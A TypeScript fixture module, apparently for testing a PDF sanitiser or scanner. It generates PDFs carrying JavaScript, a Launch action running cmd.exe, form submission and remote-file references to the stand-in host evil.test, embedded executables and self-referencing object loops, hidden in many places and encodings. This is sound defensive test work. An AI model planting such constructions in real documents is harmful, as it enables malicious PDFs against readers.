import {
  hybrid,
  inHexadecimal,
  type PdfObjects,
  stream,
  withObjectStream,
  withTable,
} from './pdf-writer.ts'

export interface PdfCase {
  readonly what: string
  readonly bytes: Buffer
}

const drawing = 'BT /F1 24 Tf 20 100 Td (Bonjour) Tj ET'
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/** A plain document of one page: 1 catalogue, 2 pages, 3 page, 4 content, 5 font. From 9 on, free. */
export interface Plan {
  readonly before?: string
  readonly trailer?: string
  readonly root?: string
  readonly page?: string
  readonly content?: string
  readonly resources?: string
  readonly more?: PdfObjects
}

const catalogOf = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`

function objectsOf({ root, page, content, resources, more }: Plan): PdfObjects {
  return {
    1: catalogOf(root),
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources ?? ''} >> ${page ?? ''} >>`,
    4: content ?? stream('', drawing),
    5: font,
    ...more,
  }
}

const rootOf = (trailer = '') => (trailer.includes('/Root') ? trailer : `/Root 1 0 R ${trailer}`)

export const document = (plan: Plan = {}): Buffer =>
  Buffer.from(withTable(objectsOf(plan), rootOf(plan.trailer), plan.before), 'latin1')

type Encoding = (plan: Plan) => string

const encodings: Readonly<Record<string, Encoding>> = {
  'with a table': (plan) => withTable(objectsOf(plan), rootOf(plan.trailer)),
  'in a stream of objects': (plan) => withObjectStream(objectsOf(plan), rootOf(plan.trailer)),
  'behind two kinds of tables': (plan) => hybrid(objectsOf(plan), rootOf(plan.trailer)),
  'in a second version': (plan) => {
    const first = withTable(objectsOf({}), '/Root 1 0 R')
    return withTable(objectsOf(plan), rootOf(plan.trailer), first)
  },
  'in a first version': (plan) => {
    const first = withTable(objectsOf(plan), rootOf(plan.trailer))
    return withTable(objectsOf({}), '/Root 1 0 R', first)
  },
  'in hexadecimal': (plan) => {
    const objects = Object.entries(objectsOf(plan))
    const written = objects.map(([number, object]) => [number, inHexadecimal(object)] as const)
    return withTable(Object.fromEntries(written), inHexadecimal(rootOf(plan.trailer)))
  },
}

const actions: Readonly<Record<string, string>> = {
  'a script': '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'a script in a stream': '<< /S /JavaScript /JS 20 0 R >>',
  'an address': '<< /S /URI /URI (https://evil.test/) >>',
  'a program': '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
  'a form to send': '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test) >> >>',
  'data to import': '<< /S /ImportData /F (\\\\\\\\evil.test\\\\x.fdf) >>',
  'another file': '<< /S /GoToR /F (\\\\\\\\evil.test\\\\x.pdf) /D [0 /Fit] >>',
  'a file within': '<< /S /GoToE /T << /R /C /N (x) >> >>',
  'a rendition': '<< /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >>',
  'an address behind a move':
    '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.test) >>] >>',
}

const form = (more: string) =>
  stream(`/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${more}`, '0 0 9 9 re f')
const drawn = { resources: '/XObject << /X1 9 0 R >>', content: stream('', `${drawing} /X1 Do`) }

/** Where an action may stand; 21 is the action itself. */
const places: Readonly<Record<string, (action: string) => Plan>> = {
  'in a catalogue within the trailer': (action) => ({
    trailer: `/Root << /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
  }),
  'in the information within the trailer': (action) => ({
    trailer: `/Info << /Title (CV) /X ${action} >>`,
  }),
  'in the trailer': (action) => ({ trailer: `/X ${action}` }),
  'when it opens': (action) => ({ root: `/OpenAction ${action}` }),
  'when it opens, elsewhere': (action) => ({ root: '/OpenAction 21 0 R', more: { 21: action } }),
  'when it closes': (action) => ({ root: `/AA << /WC ${action} >>` }),
  'when a page opens': (action) => ({ page: `/AA << /O ${action} >>` }),
  'behind a link': (action) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>]`,
  }),
  'behind a link that shows': (action) => ({
    page: `/Annots 9 0 R`,
    more: {
      9: '[10 0 R]',
      10: `<< /Subtype /Screen /Rect [0 0 9 9] /AP << /N 11 0 R >> /AA << /PO ${action} >> >>`,
      11: form(''),
    },
  }),
  'in a field': (action) => ({
    root: '/AcroForm << /Fields [9 0 R] >>',
    page: '/Annots [9 0 R]',
    more: { 9: `<< /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 9 9] /AA << /K ${action} >> >>` },
  }),
  'among the names': (action) => ({
    root: `/Names << /JavaScript << /Names [(x) ${action}] >> >>`,
  }),
  'in the outline': (action) => ({
    root: '/Outlines 9 0 R',
    more: { 9: '<< /First 10 0 R >>', 10: `<< /Title (x) /A 21 0 R >>`, 21: action },
  }),
  'in a drawing': (action) => ({
    ...drawn,
    more: { 9: form(`/A ${action} /X 21 0 R`), 21: action },
  }),
  'in a font': (action) => ({
    resources: '/Pattern << /P1 9 0 R >>',
    more: { 9: `<< /PatternType 2 /Shading << /ShadingType 2 /A ${action} >> /AA ${action} >>` },
  }),
  'in the private data of a page': (action) => ({
    page: `/PieceInfo << /App << /Private ${action} >> >>`,
  }),
  'in a layer': (action) => ({
    root: '/OCProperties << /OCGs [9 0 R] /D << /ON [9 0 R] >> >>',
    resources: '/Properties << /MC0 9 0 R >>',
    more: { 9: `<< /Type /OCG /Name (x) /Usage << /A ${action} >> >>` },
  }),
}

/** Each action at each place, however the document is written. */
export function actionCases(): readonly PdfCase[] {
  return Object.entries(actions).flatMap(([action, object]) =>
    Object.entries(places).flatMap(([place, plan]) =>
      Object.entries(encodings).map(([encoding, write]) => {
        const { more, ...rest } = plan(object)
        const text = write({ ...rest, more: { ...more, 20: stream('', 'app.alert(1)') } })
        return { what: `${action} ${place}, ${encoding}`, bytes: Buffer.from(text, 'latin1') }
      }),
    ),
  )
}

export const image = (more: string, bytes: Buffer | string = '\0') =>
  stream(
    `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 ${more}`,
    bytes,
  )
export const drawnAs = (object: string, more: PdfObjects = {}): Plan => ({
  ...drawn,
  more: { 9: object, ...more },
})
const outside = '/F (\\\\\\\\evil.test\\\\x.bin)'
const fileSpec = '<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>'
const attachment = { 9: stream('/Type /EmbeddedFile', 'MZ') }

/** What hides in streams, pictures and fonts, and what goes with a document. */
const carriers: Readonly<Record<string, Plan>> = {
  'a content in another file': { content: stream(outside, '') },
  'a content in another file, compressed': {
    content: stream(`${outside} /FFilter /FlateDecode`, ''),
  },
  'a content at an address': {
    content: stream('/F << /FS /URL /F (https://evil.test/x) >>', ''),
  },
  'a content whose other file is named elsewhere': {
    content: stream('/F 9 0 R', ''),
    more: { 9: '(x.bin)' },
  },
  'an image in another file': drawnAs(image(outside)),
  'a form in another file': drawnAs(form(outside)),
  'a font in another file': {
    resources: '/Font << /F2 9 0 R >>',
    more: {
      9: '<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 10 0 R >>',
      10: '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 11 0 R >>',
      11: stream(outside, ''),
    },
  },
  'a profile of colours in another file': {
    resources: '/ColorSpace << /C1 [/ICCBased 9 0 R] >>',
    more: { 9: stream(`/N 3 ${outside}`, '') },
  },
  'a page of another document': drawnAs(form('/Ref << /F (x.pdf) /Page 0 >>')),
  'an image of OPI': drawnAs(image('/OPI << /2.0 << /Type /OPI /F (x.tif) >> >>')),
  'a form of OPI': drawnAs(form('/OPI << /1.3 << /F (x.tif) >> >>')),
  'a program of PostScript': drawnAs(stream('/Type /XObject /Subtype /PS', 'quit')),
  'a form that is PostScript': drawnAs(form('/Subtype2 /PS /PS 10 0 R'), {
    10: stream('', 'quit'),
  }),
  'another image for print': drawnAs(image('/Alternates [<< /Image 10 0 R >>]'), {
    10: image(outside),
  }),
  'an attachment': {
    root: `/Names << /EmbeddedFiles << /Names [(x) ${fileSpec}] >> >>`,
    more: attachment,
  },
  'an attachment of the document': { root: `/AF [${fileSpec}]`, more: attachment },
  'an attachment of a page': { page: `/AF [${fileSpec}]`, more: attachment },
  'an attachment of a form': drawnAs(form('/AF [10 0 R]'), {
    10: '<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>',
    11: stream('/Type /EmbeddedFile', 'MZ'),
  }),
  'an attached note': {
    page: `/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${fileSpec} >>]`,
    more: attachment,
  },
  'a portfolio': { root: '/Collection << /View /H >>' },
  'a form of XFA': {
    root: '/AcroForm << /XFA 9 0 R /Fields [] >>',
    more: { 9: stream('', '<x/>') },
  },
  'a rich medium': {
    page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> /Rect [0 0 9 9] >>]',
  },
  'a model in space': {
    page: '/Annots [<< /Subtype /3D /3DD 9 0 R /Rect [0 0 9 9] >>]',
    more: { 9: stream('/Type /3D /Subtype /U3D', '') },
  },
  'a film': { page: '/Annots [<< /Subtype /Movie /Movie << /F (x.avi) >> >>]' },
  'a sound': {
    page: '/Annots [<< /Subtype /Sound /Sound 9 0 R >>]',
    more: { 9: stream('/Type /Sound /R 8000', '') },
  },
  'an address of all links': { root: '/URI << /Base (https://evil.test/) >>' },
  'threads, thumbnails and transitions': {
    root: '/Threads [<< /I << /Title (x) >> >>]',
    page: '/Thumb 9 0 R /Trans << /S /Fly >> /Dur 1 /B [10 0 R]',
    more: { 9: image(''), 10: '<< /T 1 0 R >>' },
  },
  'words about it': {
    root: '/Metadata 9 0 R',
    more: { 9: stream('/Type /Metadata', '<x:xmpmeta/>') },
  },
  'words about an image': drawnAs(image('/Metadata 10 0 R'), {
    10: stream('/Type /Metadata', '<x/>'),
  }),
  'permissions and a signature': {
    root: '/Perms << /DocMDP 9 0 R >>',
    more: { 9: '<< /Type /Sig /Filter /Adobe.PPKLite /Reference [<< /Data 1 0 R >>] >>' },
  },
  'itself among its resources': {
    resources: '/XObject << /X1 9 0 R >>',
    more: { 9: form('/Resources << /XObject << /X1 9 0 R >> /Parent 1 0 R >>') },
  },
  'the catalogue among its resources': {
    resources: '/Root 1 0 R /XObject << /X1 1 0 R >> /Font << /F1 1 0 R >>',
    root: '/OpenAction << /S /URI /URI (https://evil.test) >>',
  },
  'a stream as a list of fonts': {
    resources: '/Font 9 0 R',
    more: { 9: stream('/F1 5 0 R /Filter /ASCIIHexDecode /Metadata 1 0 R /AA 1 0 R', '00>') },
  },
  'a stream as a list of drawings': {
    resources: '/XObject 9 0 R',
    more: { 9: stream('/X1 1 0 R /Ref 1 0 R /OPI 1 0 R /Metadata 1 0 R', 'x') },
  },
  'the catalogue as its content': {
    page: '/Contents 1 0 R',
    root: '/OpenAction << /S /URI /URI (https://evil.test) >>',
  },
}

export function carrierCases(): readonly PdfCase[] {
  return Object.entries(carriers).flatMap(([what, plan]) =>
    Object.entries(encodings).map(([encoding, write]) => ({
      what: `${what}, ${encoding}`,
      bytes: Buffer.from(write(plan), 'latin1'),
    })),
  )
}
